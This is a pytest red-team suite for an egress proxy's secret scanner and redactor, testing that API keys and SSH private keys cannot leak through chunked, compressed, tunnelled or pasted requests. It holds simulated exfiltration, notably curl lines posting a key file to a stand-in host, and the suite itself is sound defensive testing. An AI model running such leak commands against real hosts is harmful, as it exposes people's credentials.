"""Red-team of the outbound secret scan and of the route scrub on the decoded stream
(relay/egress/secret_scan.py, relay/egress/redact.py, relay/egress/forward.py).

Answers: an upstream that echoes the key in 7-byte chunks, gzipped although identity was asked
for, or cut at both ends inside a 2xx body, must not hand it to the box. Requests: a host secret
(a route's key, an SSH private key the deny list hides) pasted into a request the box sends in clear
is refused, however its body is framed. Each attack has its twin: the legitimate answer or request
arrives intact.

Real parts: the real EgressProxy, real TLS upstreams under the route's name with a throwaway CA (the
fixtures of test_credential_smuggling), a real plain-HTTP upstream on 127.0.0.1, real ssh-keygen keys.
"""

from __future__ import annotations

import gzip
import json
import secrets
import socket
import ssl
import string
import subprocess
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from relay.egress import forward as forward_mod
from relay.egress.decision_log import DecisionLog
from relay.egress.proxy import EgressProxy
from relay.egress.redact import Redactor
from relay.egress.secret_scan import HostSecrets, Inflate, RequestScan, SecretFound, Unchunk, secret_forms
from relay.egress.secret_source import host_secrets
from relay.model.allow_rules import parse_rule
from relay.policy.egress import key_forms

from ..conftest import Sandbox, require_tool
from ..props import examples
from ..servers import start_tcp
from .conftest import Report
from .test_credential_smuggling import ANTHROPIC, ca2, proxy  # noqa: F401 - pytest fixtures
from .test_credential_smuggling import status as status_of
from .test_credentials import REAL, TLSUpstream, entries, exchange

H = b"Host: 127.0.0.1:3128\r\n"
# A key shaped as a real one: a prefix its placeholder keeps, then random text no placeholder shares.
HOST_KEY = "sk-ant-api03-" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(60))


def chunked(body: bytes, size: int, ext: bool = False) -> bytes:
    out = b"".join(b"%x%s\r\n%s\r\n" % (len(body[i:i + size]), b";x=1" if ext else b"", body[i:i + size])
                   for i in range(0, len(body), size))
    return out + b"0\r\nX-Trailer: t\r\n\r\n"


def dechunk(data: bytes) -> bytes:
    u = Unchunk()
    out = u.feed(data)
    assert u.done, data[-40:]
    return out


def echo_chunked(size: int) -> Callable[[bytes], bytes]:
    """An upstream that echoes the request head in chunks of `size` bytes (with extensions and a trailer)."""
    def answer(head: bytes) -> bytes:
        return b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked(b"you sent:\n" + head, size, ext=True)
    return answer


@pytest.mark.parametrize("size", [1, 3, 7])
def test_a_key_echoed_in_tiny_chunks_is_scrubbed(ca2, proxy, size: int, report: Report) -> None:  # noqa: F811
    upstream = TLSUpstream(ca2[1], echo_chunked(size))
    port, log = proxy(upstream)
    answer = exchange(port, b"GET /anthropic/v1/echo HTTP/1.1\r\n" + H + b"\r\n")
    head, _, wire = answer.partition(b"\r\n\r\n")
    body = dechunk(wire)
    blocked = REAL.encode() not in body and REAL.encode()[:8] not in wire and b"x-api-key: " + b"*" * len(REAL) in body
    report.attack(blocked)
    assert blocked, answer
    # twin: the echo is the upstream's answer, whole and readable, only the key's bytes starred.
    sent = upstream.received().partition(b"\r\n\r\n")[0] + b"\r\n\r\n"
    works = (status_of(answer) == b"200" and b"Transfer-Encoding: chunked" in head
             and body == b"you sent:\n" + sent.replace(REAL.encode(), b"*" * len(REAL)))
    report.legit(works)
    assert works, (body, sent)
    assert entries(log)[0]["redacted"] == 1 and REAL not in log.read_text()


def test_a_chunked_answer_without_the_key_arrives_intact(ca2, proxy, report: Report) -> None:  # noqa: F811
    """An SSE stream in odd chunk sizes: every event arrives, byte for byte, in order."""
    events = b"".join(b"event: content_block_delta\ndata: {\"text\": \"piece %d\"}\n\n" % i for i in range(50))
    upstream = TLSUpstream(ca2[1], lambda head: b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n"
                           b"Transfer-Encoding: chunked\r\n\r\n" + chunked(events, 7))
    port, _ = proxy(upstream)
    answer = exchange(port, b"POST /anthropic/v1/messages HTTP/1.1\r\n" + H + b"Content-Length: 2\r\n\r\n{}")
    works = status_of(answer) == b"200" and dechunk(answer.partition(b"\r\n\r\n")[2]) == events
    report.legit(works)
    assert works, answer


@pytest.mark.parametrize("coding", ["gzip", "deflate"])
def test_a_compressed_echo_is_decoded_and_scrubbed(ca2, proxy, coding: str, report: Report) -> None:  # noqa: F811
    """The route asks for identity; an upstream that compresses anyway (and echoes the key) is decoded,
    scrubbed, and passed on as identity."""
    def answer(head: bytes) -> bytes:
        body = b"debug: " + head
        packed = gzip.compress(body) if coding == "gzip" else zlib.compress(body)
        return b"HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %d\r\n\r\n" % (coding.encode(), len(packed)) + packed

    upstream = TLSUpstream(ca2[1], answer)
    port, log = proxy(upstream)
    got = exchange(port, b"GET /anthropic/v1/echo HTTP/1.1\r\n" + H + b"Accept-Encoding: gzip\r\n\r\n")
    head, _, wire = got.partition(b"\r\n\r\n")
    body = dechunk(wire)
    blocked = REAL.encode() not in body and b"Content-Encoding" not in head and b"x-api-key: " + b"*" * len(REAL) in body
    report.attack(blocked)
    assert blocked, got
    works = status_of(got) == b"200" and body.startswith(b"debug: GET /v1/echo HTTP/1.1\r\n")
    report.legit(works)
    assert works, got
    assert entries(log)[0]["redacted"] == 1


def test_an_answer_in_an_encoding_with_no_decoder_is_refused(ca2, proxy, report: Report) -> None:  # noqa: F811
    upstream = TLSUpstream(ca2[1], lambda head: b"HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 4\r\n\r\n\x0b\x01\x80x")
    port, _ = proxy(upstream)
    answer = exchange(port, b"GET /anthropic/v1/x HTTP/1.1\r\n" + H + b"\r\n")
    blocked = status_of(answer) == b"502" and b"br" in answer and b"\x0b\x01\x80x" not in answer
    report.attack(blocked)
    assert blocked, answer
    # twin: gzip without the key is delivered decoded, whole.
    data = b"{\"ok\": true}" * 100
    packed = gzip.compress(data)
    twin = TLSUpstream(ca2[1], lambda head: b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
                       % len(packed) + packed)
    port, _ = proxy(twin)
    got = exchange(port, b"GET /anthropic/v1/x HTTP/1.1\r\n" + H + b"\r\n")
    report.legit(dechunk(got.partition(b"\r\n\r\n")[2]) == data)
    assert dechunk(got.partition(b"\r\n\r\n")[2]) == data


def test_a_2xx_body_with_the_key_minus_its_two_ends_is_scrubbed(ca2, proxy, report: Report) -> None:  # noqa: F811
    key = REAL.encode()
    middle = key[1:-1]

    def answer(head: bytes) -> bytes:
        body = b'{"echo": "' + middle + b'"}'
        return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body

    upstream = TLSUpstream(ca2[1], answer)
    port, _ = proxy(upstream)
    got = exchange(port, b"GET /anthropic/v1/x HTTP/1.1\r\n" + H + b"\r\n")
    body = got.partition(b"\r\n\r\n")[2]
    blocked = middle not in body and body == b'{"echo": "' + b"*" * len(middle) + b'"}'
    report.attack(blocked)
    assert blocked, got
    report.legit(status_of(got) == b"200" and b"Content-Length: %d" % len(body) in got)
    assert status_of(got) == b"200"


@settings(max_examples=examples(300), deadline=None)
@given(st.binary(max_size=80), st.integers(0, 200), st.integers(0, 200), st.lists(st.integers(0, 400), max_size=6))
def test_a_2xx_body_loses_the_key_minus_its_ends_however_cut(before: bytes, a: int, b: int, cuts: list[int]) -> None:
    """In a 2xx body (Redactor.full False) the key minus its two ends (any cut that keeps its centre
    MID_BLOCK bytes) is gone, wherever it lies and however the stream is cut."""
    key = HOST_KEY.encode()
    centre = (len(key) - Redactor.MID_BLOCK) // 2
    lo, hi = 1 + a % centre, len(key) - 1 - b % (len(key) - centre - Redactor.MID_BLOCK - 1)
    stream = before + key[lo:hi] + before
    red, out, last = Redactor(key_forms(ANTHROPIC, HOST_KEY)), b"", 0
    red.full = False
    for cut in sorted(c for c in cuts if c <= len(stream)) + [len(stream)]:
        out += red.feed(stream[last:cut])
        last = cut
    out += red.flush()
    assert len(out) == len(stream) and key[lo:hi] not in out and key[centre:centre + Redactor.MID_BLOCK] not in out


@settings(max_examples=examples(300), deadline=None)
@given(st.binary(max_size=3000), st.lists(st.integers(1, 40), min_size=1, max_size=8), st.lists(st.integers(0, 4000), max_size=8))
def test_the_decoded_view_is_the_payload_however_it_is_framed(payload: bytes, sizes: list[int], cuts: list[int]) -> None:
    """Unchunk (any chunk sizes, extensions, a trailer) and Inflate (gzip, deflate) fed wire bytes cut
    anywhere give back exactly the payload."""
    wire, at, i = b"", 0, 0
    while at < len(payload):
        n = sizes[i % len(sizes)]
        wire += b"%x;e=%d\r\n%s\r\n" % (n if at + n <= len(payload) else len(payload) - at, i, payload[at:at + n])
        at, i = at + n, i + 1
    wire += b"0\r\nT: 1\r\n\r\n"
    for coded, decode in ((wire, lambda d: d), (gzip.compress(payload), None), (zlib.compress(payload), None)):
        points = sorted(c for c in cuts if c <= len(coded)) + [len(coded)]
        u, inflate, out, last = Unchunk(), Inflate(["gzip"] if coded[:2] == b"\x1f\x8b" else ["deflate"]), b"", 0
        for cut in points:
            piece = coded[last:cut]
            last = cut
            out += u.feed(piece) if decode else b"".join(inflate.pieces(piece))
        assert out == payload


@settings(max_examples=examples(300), deadline=None)
@given(st.binary(max_size=200), st.binary(max_size=200), st.lists(st.integers(0, 600), max_size=8), st.booleans())
def test_a_request_never_lets_a_byte_of_the_secret_out_before_it_is_refused(before: bytes, after: bytes,
                                                                             cuts: list[int], whole: bool) -> None:
    """RequestScan on a body cut anywhere: what it clears for the upstream before SecretFound never
    holds a run of the secret's own part of MIN_RUN bytes; a body without it is cleared byte for byte."""
    part = secret_forms("k", HOST_KEY).forms[0].encode()  # type: ignore[union-attr]
    body = before + (HOST_KEY.encode() if whole else part[5:5 + Redactor.MIN_RUN + 3]) + after
    scan, sent, last = RequestScan(HostSecrets([secret_forms("k", HOST_KEY)])), b"", 0  # type: ignore[list-item]
    with pytest.raises(SecretFound):
        for cut in sorted(c for c in cuts if c <= len(body)) + [len(body)]:
            sent += scan.body(body[last:cut])
            last = cut
        sent += scan.end()
    assert not any(sent[i:i + Redactor.MIN_RUN] in part for i in range(max(0, len(sent) - Redactor.MIN_RUN + 1)))
    clean = (before + after).replace(part[:4], b"")
    scan, out = RequestScan(HostSecrets([secret_forms("k", HOST_KEY)])), b""  # type: ignore[list-item]
    for i in range(0, len(clean), 7):
        out += scan.body(clean[i:i + 7])
    assert out + scan.end() == clean


def test_a_placeholder_of_the_keys_shape_is_no_secret() -> None:
    """The box's copy of a login file holds placeholders that keep a key's prefix, a JWT's header and
    claims (relay/model/credential_files.py): sending them is fine, the real value is not."""
    from relay.model.credential_files import placeholder_for

    header = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9"
    payload = "eyJleHAiOjE3MDAwMDAwMDAsImFjY291bnRfaWQiOiJhY2N0LTEyMyJ9"
    jwt = f"{header}.{payload}.{'s' * 10}{HOST_KEY[-40:]}"
    hs = HostSecrets([secret_forms("key", HOST_KEY), secret_forms("jwt", jwt)])  # type: ignore[list-item]
    for real in (HOST_KEY, jwt):
        fake = placeholder_for(real)
        scan = RequestScan(hs)
        assert scan.body(fake.encode()) + scan.end() == fake.encode()
        with pytest.raises(SecretFound):
            RequestScan(hs).head(b"Authorization: Bearer " + real.encode())


# Requests the box sends in clear: to an allowed plain-HTTP host, and on a route.

class PlainUpstream:
    """A plain-HTTP server on 127.0.0.1 that records each request (head and whole body) and answers 200."""

    def __init__(self) -> None:
        self.got: list[bytes] = []
        self.sock, self.port = start_tcp(self._handle)

    def _handle(self, conn: socket.socket, _n: int) -> None:
        data = b""
        conn.settimeout(2)
        try:
            while True:
                head, sep, rest = data.partition(b"\r\n\r\n")
                if sep:
                    low = head.lower()
                    if b"transfer-encoding: chunked" in low and rest.endswith(b"0\r\n\r\n"):
                        break
                    if b"content-length: " in low and len(rest) >= int(low.split(b"content-length: ")[1].split(b"\r\n")[0]):
                        break
                    if b"content-length" not in low and b"transfer-encoding" not in low:
                        break
                chunk = conn.recv(65536)
                if not chunk:
                    break
                data += chunk
            self.got.append(data)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        except OSError:
            self.got.append(data)
        finally:
            conn.close()


@pytest.fixture
def plain_proxy(tmp_path: Path) -> Iterator[Callable[..., tuple[int, Path]]]:
    """plain_proxy(upstream, secrets): a real EgressProxy allowing `plain.example` pinned to `upstream`."""
    started: list[EgressProxy] = []

    def make(upstream: PlainUpstream, secrets: HostSecrets) -> tuple[int, Path]:
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(64)
        log = tmp_path / f"plain-{len(started)}.jsonl"
        plain = EgressProxy(listener, (parse_rule(f"plain.example:{upstream.port}=127.0.0.1:{upstream.port}"),),
                            DecisionLog(str(log), "test"), notify=None, secrets=secrets)
        plain.start()
        started.append(plain)
        return listener.getsockname()[1], log

    yield make
    for p in started:
        p.stop()


def post(port: int, body: bytes, framing: str, extra: bytes = b"") -> bytes:
    framed = (b"Content-Length: %d\r\n\r\n" % len(body) + body if framing == "length"
              else b"Transfer-Encoding: chunked\r\n\r\n" + chunked(body, 7))
    return b"POST http://plain.example:%d/upload HTTP/1.1\r\nHost: plain.example:%d\r\n" % (port, port) + extra + framed


@pytest.mark.parametrize("framing", ["length", "chunked"])
def test_a_host_secret_pasted_into_a_plain_http_body_is_refused(plain_proxy, framing: str, report: Report) -> None:
    upstream = PlainUpstream()
    port, log = plain_proxy(upstream, HostSecrets([secret_forms("the anthropic route's key", HOST_KEY)]))  # type: ignore[list-item]
    body = json.dumps({"note": "see " + HOST_KEY + " here", "pad": "x" * 3000}).encode()
    answer = exchange(port, post(upstream.port, body, framing))
    time.sleep(0.2)
    leaked = b"".join(upstream.got)
    blocked = (status_of(answer) == b"403" and b"secret of the host" in answer
               and HOST_KEY.encode()[13:13 + Redactor.MIN_RUN] not in leaked)
    report.attack(blocked)
    assert blocked, (answer, leaked[-200:])
    line = [e for e in entries(log) if e.get("secret_scan")][0]
    assert line["decision"] == "secret" and "anthropic route's key" in line["reason"] and HOST_KEY not in log.read_text()
    # twin: the same request without the secret passes, its body delivered as sent.
    clean = body.replace(HOST_KEY.encode(), b"sk-ant-api03-placeholder")
    answer = exchange(port, post(upstream.port, clean, framing))
    time.sleep(0.2)
    works = status_of(answer) == b"200" and upstream.got and (upstream.got[-1].endswith(clean) if framing == "length"
                                                               else dechunk(upstream.got[-1].partition(b"\r\n\r\n")[2]) == clean)
    report.legit(bool(works))
    assert works, upstream.got[-1][-200:] if upstream.got else answer


def test_a_host_secret_in_a_plain_http_head_or_a_gzip_body_is_refused(plain_proxy, report: Report) -> None:
    upstream = PlainUpstream()
    port, _ = plain_proxy(upstream, HostSecrets([secret_forms("k", HOST_KEY)]))  # type: ignore[list-item]
    in_url = b"GET http://plain.example:%d/?token=%s HTTP/1.1\r\nHost: x\r\n\r\n" % (upstream.port, HOST_KEY.encode())
    packed = gzip.compress(b"key=" + HOST_KEY.encode())
    gz = post(upstream.port, packed, "length", b"Content-Encoding: gzip\r\n")
    brotli = post(upstream.port, b"\x0b\x01\x80x", "length", b"Content-Encoding: br\r\n")
    corrupt = post(upstream.port, packed[:10] + b"\xff" * 20, "chunked", b"Content-Encoding: gzip\r\n")
    answers = [exchange(port, in_url), exchange(port, gz), exchange(port, brotli), exchange(port, corrupt)]
    time.sleep(0.2)
    blocked = [status_of(a) for a in answers] == [b"403", b"403", b"415", b"400"] and not any(upstream.got)
    report.attack(blocked)
    assert blocked, (answers, upstream.got)
    fine = gzip.compress(b"key=placeholder")
    answer = exchange(port, post(upstream.port, fine, "length", b"Content-Encoding: gzip\r\n"))
    time.sleep(0.2)
    works = status_of(answer) == b"200" and upstream.got[-1].endswith(fine)
    report.legit(bool(works))
    assert works
    assert forward_mod._held[0] == 0  # every held compressed body gave its bytes back to the budget


def tunnel(port: int, upstream_port: int, inner: bytes) -> bytes:
    """CONNECT to plain.example, then `inner` through the tunnel: what comes back after the 200."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        sock.sendall(b"CONNECT plain.example:%d HTTP/1.1\r\nHost: plain.example:%d\r\n\r\n" % (upstream_port, upstream_port))
        got = b""
        while b"\r\n\r\n" not in got:
            got += sock.recv(4096)
        assert got.startswith(b"HTTP/1.1 200"), got
        sock.sendall(inner)
        out = got.partition(b"\r\n\r\n")[2]
        try:
            while chunk := sock.recv(65536):
                out += chunk
        except OSError:
            pass
        return out


@pytest.mark.parametrize("framing", ["length", "chunked"])
def test_a_host_secret_sent_as_plain_http_inside_a_tunnel_is_refused(plain_proxy, framing: str, report: Report) -> None:
    """Node's fetch tunnels http:// through CONNECT (relay/box/nodeproxy.py): the proxy sees plain HTTP
    there too, so the box's requests inside the tunnel pass the same scan."""
    upstream = PlainUpstream()
    port, log = plain_proxy(upstream, HostSecrets([secret_forms("the anthropic route's key", HOST_KEY)]))  # type: ignore[list-item]
    body = b"dump=" + HOST_KEY.encode() + b"&pad=" + b"y" * 2000
    inner = post(upstream.port, body, framing).replace(b"POST http://plain.example:%d/upload" % upstream.port, b"POST /upload")
    answer = tunnel(port, upstream.port, inner)
    time.sleep(0.2)
    blocked = (status_of(answer) == b"403" and b"secret of the host" in answer
               and not any(HOST_KEY.encode()[13:28] in g for g in upstream.got))
    report.attack(blocked)
    assert blocked, (answer, upstream.got)
    assert any(e.get("tunnel") and e["decision"] == "secret" for e in entries(log, 2))
    clean = body.replace(HOST_KEY.encode(), b"placeholder")
    answer = tunnel(port, upstream.port, post(upstream.port, clean, framing).replace(
        b"POST http://plain.example:%d/upload" % upstream.port, b"POST /upload"))
    time.sleep(0.2)
    got = upstream.got[-1] if upstream.got else b""
    works = status_of(answer) == b"200" and (got.endswith(clean) if framing == "length"
                                              else dechunk(got.partition(b"\r\n\r\n")[2]) == clean)
    report.legit(works)
    assert works, (answer, got[-200:])


@pytest.fixture(scope="module")
def ssh_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    require_tool("ssh-keygen")
    home = tmp_path_factory.mktemp("home")
    (home / ".ssh").mkdir(mode=0o700)
    for kind in ("ed25519", "rsa"):
        subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-f", str(home / ".ssh" / f"id_{kind}")], check=True)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(home / "another")], check=True)
    return home


@pytest.mark.parametrize("kind", ["ed25519", "rsa"])
def test_an_ssh_private_keys_bytes_in_a_body_are_refused(plain_proxy, ssh_home: Path, kind: str, report: Report) -> None:
    """The deny list hides ~/.ssh (relay/policy/denylist.py): its private keys are host secrets. Their
    bytes in a request body are refused, as the file or JSON-escaped; the public key and another key
    of the same type (which share the format's header) pass."""
    upstream = PlainUpstream()
    found = host_secrets({}, [], [str(ssh_home / ".ssh")], str(ssh_home))
    port, log = plain_proxy(upstream, found)
    key = (ssh_home / ".ssh" / f"id_{kind}").read_bytes()
    answers = [exchange(port, post(upstream.port, key, "length")),
               exchange(port, post(upstream.port, json.dumps({"k": key.decode()}).encode(), "chunked"))]
    time.sleep(0.2)
    blocked = [status_of(a) for a in answers] == [b"403", b"403"] and not any(upstream.got)
    report.attack(blocked)
    assert blocked, answers
    assert f"~/.ssh/id_{kind}" in log.read_text() and key.decode().splitlines()[3] not in log.read_text()
    others = [(ssh_home / ".ssh" / f"id_{kind}.pub").read_bytes(), (ssh_home / "another").read_bytes()]
    answers = [exchange(port, post(upstream.port, other, "length")) for other in others]
    time.sleep(0.2)
    works = [status_of(a) for a in answers] == [b"200", b"200"] and upstream.got[-2:] and all(upstream.got[-2:])
    report.legit(works)
    assert works, answers


def test_a_route_request_carrying_a_host_secret_is_refused_before_the_key_is_read(ca2, tmp_path: Path,  # noqa: F811
                                                                                   report: Report) -> None:
    upstream = TLSUpstream(ca2[1])
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    log = tmp_path / "route.jsonl"
    reads: list[int] = []

    def key() -> str:
        reads.append(1)
        return REAL

    served = EgressProxy(listener, (parse_rule(f"api.anthropic.com:443=127.0.0.1:{upstream.port}"),),
                        DecisionLog(str(log), "t"), routes=(ANTHROPIC,), keys={"anthropic": key},
                        tls=ssl.create_default_context(cafile=str(ca2[0])), notify=None,
                        secrets=HostSecrets([secret_forms("the github grant's secret", HOST_KEY)]))  # type: ignore[list-item]
    served.start()
    try:
        port = listener.getsockname()[1]
        body = json.dumps({"messages": [{"role": "user", "content": "token " + HOST_KEY}]}).encode()
        req = b"POST /anthropic/v1/messages HTTP/1.1\r\n" + H + b"x-api-key: hive-relay-placeholder\r\n"
        answer = exchange(port, req + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        blocked = status_of(answer) == b"403" and not reads and not upstream.conns and b"github grant" in answer
        report.attack(blocked)
        assert blocked, answer
        clean = body.replace(HOST_KEY.encode(), b"nothing")
        answer = exchange(port, req + b"Transfer-Encoding: chunked\r\n\r\n" + chunked(clean, 7))
        sent = upstream.received()
        works = status_of(answer) == b"200" and reads and dechunk(sent.partition(b"\r\n\r\n")[2]) == clean
        report.legit(bool(works))
        assert works, (answer, sent[-300:])
    finally:
        served.stop()


BOX_PASTE = r"""
curl -s -o /dev/null -w 'leak=%{http_code}\n' --data-binary @leak.txt "http://plain.example:$PLAIN/upload"
curl -s -o /dev/null -w 'fine=%{http_code}\n' --data-binary @fine.txt "http://plain.example:$PLAIN/upload"
"""


def test_in_a_real_box_a_host_secret_pasted_into_a_request_is_refused(box: Sandbox, report: Report) -> None:
    """The launcher's real key (held by the claude route) finds its way into a file in the workdir; the
    box's curl posts it to an allowed plain-HTTP host: refused, while the same post without it works."""
    upstream = PlainUpstream()
    (box.workdir / "leak.txt").write_text(f"debug dump: ANTHROPIC_API_KEY={HOST_KEY}\n")
    (box.workdir / "fine.txt").write_text("debug dump: ANTHROPIC_API_KEY=hive-relay-placeholder\n")
    proc = box.box(BOX_PASTE.replace("$PLAIN", str(upstream.port)), "claude", "--allow-host",
                   f"plain.example:{upstream.port}=127.0.0.1:{upstream.port}", extra_env={"ANTHROPIC_API_KEY": HOST_KEY})
    lines = proc.stdout.splitlines()
    blocked = "leak=403" in lines and not any(HOST_KEY.encode()[13:40] in g for g in upstream.got)
    report.attack(blocked)
    assert blocked, (proc.stdout, proc.stderr[-2000:])
    works = "fine=200" in lines and any(g.endswith(b"hive-relay-placeholder\n") for g in upstream.got)
    report.legit(works)
    assert works, (proc.stdout, upstream.got)
